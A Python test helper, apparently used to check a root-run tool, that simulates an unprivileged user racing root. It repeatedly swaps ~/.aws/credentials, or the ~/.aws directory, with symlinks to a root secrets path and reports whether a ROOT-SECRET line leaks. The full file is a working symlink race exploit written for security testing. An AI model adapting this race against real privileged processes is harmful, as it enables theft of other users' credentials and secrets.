"""A user who exchanges a file, or its directory, for a link to root's while root updates it.

Usage: swapping_user.py file|directory USER HOME SECRET_DIRECTORY, started as root

HOME/.aws/credentials alternates between a file of this user and a link to SECRET_DIRECTORY/secret,
or HOME/.aws between a directory and a link to SECRET_DIRECTORY. Prints "ready", then "leak" and ends
if this user can read a line with ROOT-SECRET. Ends when its standard input is closed.
"""

import ctypes
import os
import select
import sys

mode, user, home, secrets = sys.argv[1:]
os.setgroups([])
os.setgid(int(user))
os.setuid(int(user))
libc = ctypes.CDLL(None)
AT_FDCWD, RENAME_EXCHANGE = -100, 2
aws = f"{home}/.aws"
credentials = f"{aws}/credentials"
other = f"{home}/other"


def write(path):
    with open(f"{home}/new", "w") as file:
        file.write("[mine]\nregion = x\n")
    os.rename(f"{home}/new", path)


def remove(path):
    try:
        os.unlink(path)
    except FileNotFoundError:
        pass


def leaks(path):
    try:
        with open(path) as file:
            return "ROOT-SECRET" in file.read()
    except OSError:
        return False


def prepare():
    if mode == "file":
        if leaks(credentials) or leaks(other):
            print("leak", flush=True)
            sys.exit(0)
        write(credentials)
        remove(other)
        os.symlink(f"{secrets}/secret", other)
        return credentials, other
    if os.path.islink(aws):
        exchange(aws, other)
    if leaks(credentials):
        print("leak", flush=True)
        sys.exit(0)
    write(credentials)
    return aws, other


def exchange(a, b):
    libc.renameat2(AT_FDCWD, a.encode(), AT_FDCWD, b.encode(), RENAME_EXCHANGE)


if mode == "directory":
    os.symlink(secrets, other)
a, b = prepare()
print("ready", flush=True)
while not select.select([sys.stdin], [], [], 0)[0]:
    for _ in range(50):
        exchange(a, b)
        for _ in range(200):  # about as long as two of root's calls
            pass
    a, b = prepare()
